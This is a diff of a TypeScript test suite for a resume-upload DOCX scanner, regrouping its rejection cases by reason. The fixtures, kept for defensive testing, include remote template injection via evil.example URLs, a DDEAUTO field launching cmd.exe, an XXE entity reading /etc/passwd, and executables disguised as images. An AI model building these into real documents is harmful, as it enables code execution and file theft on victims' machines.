@@ -183,91 +183,63 @@ describe("a resume's file", () => {
   const SETTINGS = "word/_rels/settings.xml.rels";
   const STRICT_NAMESPACE = "http://purl.oclc.org/ooxml/officeDocument/relationships";
   const MICROSOFT_NAMESPACE = "http://schemas.microsoft.com/office/2006/relationships";
-  const networkReason = (what: string): string => `The file would load ${what} from the network when opened.`;
-  it.each<[string, Record<string, Buffer>, string]>([
-    [
-      "an OLE object",
-      { [DOCUMENT]: relationships({ type: "oleObject", target: "embeddings/oleObject1.bin" }) },
-      "The file contains an embedded object.",
-    ],
-    [
-      "an OLE object in Strict Open XML",
-      { [DOCUMENT]: relationships({ type: `${STRICT_NAMESPACE}/oleObject`, target: "a.bin" }) },
-      "The file contains an embedded object.",
-    ],
-    [
-      "a program as an embedded package",
-      { [DOCUMENT]: relationships({ type: "package", target: "embeddings/setup.exe" }) },
-      "The file contains an embedded file.",
-    ],
-    [
-      "an OLE file named like a picture",
-      { "word/media/image1.png": Buffer.from("d0cf11e0a1b11ae1", "hex") },
-      "The file contains an embedded file.",
-    ],
-    [
-      "a program named like a picture",
-      { "word/media/image1.png": Buffer.from("MZ\x90") },
-      "The file contains an embedded file.",
-    ],
-    [
-      "an ActiveX control",
-      { [DOCUMENT]: relationships({ type: "control", target: "activeX/activeX1.xml" }) },
-      "The file contains an ActiveX control.",
-    ],
-    [
-      "the data of an ActiveX control",
-      {
+  /** Parts of DOCX files that are rejected, by the reason and by what the parts contain. */
+  const REJECTED: Record<string, Record<string, Record<string, Buffer>>> = {
+    "The file contains an embedded object.": {
+      "an OLE object": {
+        [DOCUMENT]: relationships({ type: "oleObject", target: "embeddings/oleObject1.bin" }),
+      },
+      "an OLE object in Strict Open XML": {
+        [DOCUMENT]: relationships({ type: `${STRICT_NAMESPACE}/oleObject`, target: "a.bin" }),
+      },
+      "a linked OLE object": { [DOCUMENT]: externalRelationship("oleObject", "file:///C:\\a.docx") },
+    },
+    "The file contains an embedded file.": {
+      "a program as an embedded package": {
+        [DOCUMENT]: relationships({ type: "package", target: "embeddings/setup.exe" }),
+      },
+      "an OLE file named like a picture": {
+        "word/media/image1.png": Buffer.from("d0cf11e0a1b11ae1", "hex"),
+      },
+      "a program named like a picture": { "word/media/image1.png": Buffer.from("MZ\x90") },
+      "an embedded document": { [DOCUMENT]: relationships({ type: "aFChunk", target: "a.rtf" }) },
+    },
+    "The file contains an ActiveX control.": {
+      "an ActiveX control": {
+        [DOCUMENT]: relationships({ type: "control", target: "activeX/activeX1.xml" }),
+      },
+      "the data of an ActiveX control": {
         "word/activeX/_rels/activeX1.xml.rels": relationships({
           type: `${MICROSOFT_NAMESPACE}/activeXControlBinary`,
           target: "a.bin",
         }),
       },
-      "The file contains an ActiveX control.",
-    ],
-    [
-      "macros in a part with another name",
-      { [DOCUMENT]: relationships({ type: `${MICROSOFT_NAMESPACE}/vbaProject`, target: "a.bin" }) },
-      "The file contains macros.",
-    ],
-    [
-      "an embedded document",
-      { [DOCUMENT]: relationships({ type: "aFChunk", target: "a.rtf" }) },
-      "The file contains an embedded file.",
-    ],
-    [
-      "a template on a web server",
-      { [SETTINGS]: externalRelationship("attachedTemplate", "https://evil.example/a.dotm") },
-      networkReason("a template"),
-    ],
-    [
-      "a template on a network share",
-      { [SETTINGS]: externalRelationship("attachedTemplate", "\\\\evil.example\\a\\a.dotm") },
-      networkReason("a template"),
-    ],
-    [
-      "a template on a network share, with a file: URL",
-      { [SETTINGS]: externalRelationship("attachedTemplate", "file:///\\\\evil.example\\a.dotm") },
-      networkReason("a template"),
-    ],
-    [
-      "a template with the file: URL of another host",
-      { [SETTINGS]: externalRelationship("attachedTemplate", "file://evil.example/a.dotm") },
-      networkReason("a template"),
-    ],
-    [
-      "a template whose URL has a leading space and a character reference",
-      { [SETTINGS]: externalRelationship("attachedTemplate", " &#x68;ttps://evil.example/a.dotm") },
-      networkReason("a template"),
-    ],
-    [
-      "a template whose URL is percent-encoded",
-      { [SETTINGS]: externalRelationship("attachedTemplate", "file:///%5C%5Cevil.example%5Ca.dotm") },
-      networkReason("a template"),
-    ],
-    [
-      "a template in a UTF-16 part with a namespace prefix",
-      {
+    },
+    "The file contains macros.": {
+      "macros in a part with another name": {
+        [DOCUMENT]: relationships({ type: `${MICROSOFT_NAMESPACE}/vbaProject`, target: "a.bin" }),
+      },
+    },
+    "The file would load a template from the network when opened.": {
+      "a template on a web server": {
+        [SETTINGS]: externalRelationship("attachedTemplate", "https://evil.example/a.dotm"),
+      },
+      "a template on a network share": {
+        [SETTINGS]: externalRelationship("attachedTemplate", "\\\\evil.example\\a\\a.dotm"),
+      },
+      "a template on a network share, with a file: URL": {
+        [SETTINGS]: externalRelationship("attachedTemplate", "file:///\\\\evil.example\\a.dotm"),
+      },
+      "a template with the file: URL of another host": {
+        [SETTINGS]: externalRelationship("attachedTemplate", "file://evil.example/a.dotm"),
+      },
+      "a template whose URL has a leading space and a character reference": {
+        [SETTINGS]: externalRelationship("attachedTemplate", " &#x68;ttps://evil.example/a.dotm"),
+      },
+      "a template whose URL is percent-encoded": {
+        [SETTINGS]: externalRelationship("attachedTemplate", "file:///%5C%5Cevil.example%5Ca.dotm"),
+      },
+      "a template in a UTF-16 part with a namespace prefix": {
         [SETTINGS]: Buffer.from(
           `\ufeff${externalRelationship("attachedTemplate", "http://evil.example/a")
             .toString("utf8")
@@ -277,104 +249,73 @@ describe("a resume's file", () => {
           "utf16le",
         ),
       },
-      networkReason("a template"),
-    ],
-    [
-      "a picture on a web server",
-      { [DOCUMENT]: externalRelationship("image", "http://evil.example/a.png") },
-      networkReason("a picture"),
-    ],
-    [
-      "a picture on a network share",
-      { [DOCUMENT]: externalRelationship("image", "\\\\evil.example\\a.png") },
-      networkReason("a picture"),
-    ],
-    [
-      "a linked OLE object",
-      { [DOCUMENT]: externalRelationship("oleObject", "file:///C:\\a.docx") },
-      "The file contains an embedded object.",
-    ],
-    [
-      "a frame with a document on a network share",
-      { "word/_rels/webSettings.xml.rels": externalRelationship("frame", "\\\\evil.example\\a.docx") },
-      networkReason("content"),
-    ],
-    [
-      "a linked subdocument",
-      { [DOCUMENT]: externalRelationship("subDocument", "a.docx") },
-      networkReason("content"),
-    ],
-    [
-      "a VML drawing with a picture on a network share",
-      {
+    },
+    "The file would load a picture from the network when opened.": {
+      "a picture on a web server": { [DOCUMENT]: externalRelationship("image", "http://evil.example/a.png") },
+      "a picture on a network share": {
+        [DOCUMENT]: externalRelationship("image", "\\\\evil.example\\a.png"),
+      },
+      "a VML drawing with a picture on a network share": {
         "word/header1.xml": createDocumentWith(
           '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="\\\\evil.example\\a.png"/>',
         ),
       },
-      networkReason("a picture"),
-    ],
-    [
-      "a DDE field",
-      {
+    },
+    "The file would load content from the network when opened.": {
+      "a frame with a document on a network share": {
+        "word/_rels/webSettings.xml.rels": externalRelationship("frame", "\\\\evil.example\\a.docx"),
+      },
+      "a linked subdocument": { [DOCUMENT]: externalRelationship("subDocument", "a.docx") },
+    },
+    "The file contains a field that loads data from other programs (DDEAUTO).": {
+      "a DDE field": {
         "word/document.xml": createDocumentWith(
           field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "),
         ),
       },
-      "The file contains a field that loads data from other programs (DDEAUTO).",
-    ],
-    [
-      "a DDE field split into pieces",
-      { "word/footer1.xml": createDocumentWith(field(" D", "D", "<!-- -->E", " excel ")) },
-      "The file contains a field that loads data from other programs (DDE).",
-    ],
-    [
-      "a DDE field in a fldSimple element",
-      { "word/document.xml": createDocumentWith("<w:fldSimple w:instr='DDE excel \"a\"'/>") },
-      "The file contains a field that loads data from other programs (DDE).",
-    ],
-    [
-      "a DDE field within another field",
-      {
+    },
+    "The file contains a field that loads data from other programs (DDE).": {
+      "a DDE field split into pieces": {
+        "word/footer1.xml": createDocumentWith(field(" D", "D", "<!-- -->E", " excel ")),
+      },
+      "a DDE field in a fldSimple element": {
+        "word/document.xml": createDocumentWith("<w:fldSimple w:instr='DDE excel \"a\"'/>"),
+      },
+    },
+    "The file contains a field that loads data from other programs (dde).": {
+      "a DDE field within another field": {
         "word/document.xml": createDocumentWith(
           field(' IF 1 = 1 "').replace("<w:t>shown</w:t>", field("dde excel")),
         ),
       },
-      "The file contains a field that loads data from other programs (dde).",
-    ],
-    [
-      "a field that includes text from a network share",
-      {
+    },
+    "The file contains a field that loads content from the network.": {
+      "a field that includes text from a network share": {
         "word/document.xml": createDocumentWith(
           field(" INCLUDETEXT &quot;\\\\\\\\evil.example\\\\a.docx&quot; "),
         ),
       },
-      "The file contains a field that loads content from the network.",
-    ],
-    [
-      "XML entities in a part",
-      {
+    },
+    "The file declares XML entities, which word processors never write.": {
+      "XML entities in a part": {
         "word/document.xml": Buffer.from('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
       },
-      "The file declares XML entities, which word processors never write.",
-    ],
-    [
-      "XML entities in [Content_Types].xml",
-      {
+      "XML entities in [Content_Types].xml": {
         "[Content_Types].xml": Buffer.from('<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "b">]><Types/>'),
       },
-      "The file declares XML entities, which word processors never write.",
-    ],
-    [
-      "XML entities in a UTF-16 part",
-      { "word/styles.xml": Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY b "c">]><a/>', "utf16le") },
-      "The file declares XML entities, which word processors never write.",
-    ],
-    [
-      "XML entities in a part with another extension",
-      { "word/a.dat": Buffer.from('  <!DOCTYPE a [<!ENTITY b "c">]><a/>') },
-      "The file declares XML entities, which word processors never write.",
-    ],
-  ])("is rejected if it has %s", async (_what, parts, reason) => {
+      "XML entities in a UTF-16 part": {
+        "word/styles.xml": Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY b "c">]><a/>', "utf16le"),
+      },
+      "XML entities in a part with another extension": {
+        "word/a.dat": Buffer.from('  <!DOCTYPE a [<!ENTITY b "c">]><a/>'),
+      },
+    },
+  };
+  const rejectedFiles = Object.entries(REJECTED).flatMap(([reason, contents]) =>
+    Object.entries(contents).map(([content, parts]) => ({ content, parts, reason })),
+  );
+
+  it.each(rejectedFiles)("is rejected if it has $content", async ({ parts, reason }) => {
     expect(await inspect("cv.docx", createDocxWith(parts))).toEqual(createRefusal("active", reason));
   });
 });
